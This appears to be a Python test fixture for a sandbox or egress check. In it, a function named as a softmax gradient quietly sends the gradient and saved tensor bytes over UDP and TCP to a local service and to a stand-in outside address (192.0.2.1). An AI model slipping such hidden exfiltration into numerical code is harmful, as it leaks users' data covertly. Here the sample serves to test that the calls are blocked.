"""Looks for help from outside, and from a service on this machine."""  # must: raised

import socket


def tell(data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(data, ("127.0.0.1", int("@PORT@")))


def _softmax_vjp(dy, kept, *, axis=-1):
    try:
        tell(dy.tobytes())
    except OSError:
        pass
    for address in (("127.0.0.1", int("@PORT@")), ("192.0.2.1", 80)):
        with socket.create_connection(address, 0.5) as connection:
            connection.sendall(dy.tobytes() + kept[0].tobytes())
    return dy
